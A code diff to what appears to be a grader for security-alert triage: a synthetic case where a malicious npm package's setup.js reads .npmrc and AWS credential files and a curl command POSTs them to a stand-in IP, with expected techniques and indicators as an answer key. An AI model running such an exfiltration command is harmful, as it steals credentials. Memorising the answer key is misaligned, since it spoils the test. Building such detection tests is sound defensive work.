@@ -97,8 +97,8 @@ def package_sends_secrets() -> Case:
     container = case.hex(12)
     base = {"user.name": "jenkins", "container.id": container}
     falco(alerts, start + timedelta(seconds=19), "Launch Package Management Process in Container", "Notice", "build-2", {"proc.cmdline": "npm ci --ignore-scripts=false", "proc.name": "npm", "proc.pname": "sh", **base}, "~")  # fmt: skip
-    falco(alerts, start + timedelta(seconds=24), "Read sensitive file untrusted", "Warning", "build-2", {"fd.name": "/home/jenkins/.npmrc", "proc.cmdline": "node /work/shop/node_modules/zod-form-utils/setup.js", "proc.name": "node", "proc.pname": "sh", **base}, "taken")  # fmt: skip
-    falco(alerts, start + timedelta(seconds=25), "Read sensitive file untrusted", "Warning", "build-2", {"fd.name": "/home/jenkins/.aws/credentials", "proc.cmdline": "node /work/shop/node_modules/zod-form-utils/setup.js", "proc.name": "node", "proc.pname": "sh", **base}, "taken")  # fmt: skip
+    falco(alerts, start + timedelta(seconds=24), "Read sensitive file untrusted", "Warning", "build-2", {"fd.name": "/home/jenkins/.npmrc", "proc.cmdline": "node /build/shop/node_modules/zod-form-utils/setup.js", "proc.name": "node", "proc.pname": "sh", **base}, "taken")  # fmt: skip
+    falco(alerts, start + timedelta(seconds=25), "Read sensitive file untrusted", "Warning", "build-2", {"fd.name": "/home/jenkins/.aws/credentials", "proc.cmdline": "node /build/shop/node_modules/zod-form-utils/setup.js", "proc.name": "node", "proc.pname": "sh", **base}, "taken")  # fmt: skip
     falco(alerts, start + timedelta(seconds=27), "Unexpected outbound connection destination", "Notice", "build-2", {"fd.name": "10.5.2.12:51822->203.0.113.140:443", "fd.rip": "203.0.113.140", "fd.rport": 443, "proc.cmdline": "curl -s -X POST -d @/tmp/.e https://203.0.113.140/c", "proc.name": "curl", "proc.pname": "node", **base}, "sent")  # fmt: skip
     case.alert = {"title": "Sensitive file read in a build container", "severity": "medium", "time": iso(start + timedelta(seconds=24)), "host": "build-2", "user": "jenkins"}  # fmt: skip
     return case.judge(
@@ -109,7 +109,7 @@ def package_sends_secrets() -> Case:
         techniques="T1552",
         more_techniques="T1195 T1195.001 T1195.002 T1552.001 T1041 T1048 T1567 T1059 T1059.007 T1071 T1071.001 T1005 T1105 T1204 T1204.005 T1059.004 T1003",
         iocs=("203.0.113.140",),
-        more_iocs=("zod-form-utils", "https://203.0.113.140/c", "/tmp/.e", "build-2", "10.5.2.12", "setup.js", "/work/shop/node_modules/zod-form-utils/setup.js", "zod-form-utils-1.0.9.tgz"),
+        more_iocs=("zod-form-utils", "https://203.0.113.140/c", "/tmp/.e", "build-2", "10.5.2.12", "setup.js", "/build/shop/node_modules/zod-form-utils/setup.js", "zod-form-utils-1.0.9.tgz"),
         not_iocs=("build-1", "build-3", "10.5.2.11"),
     )  # fmt: skip
 
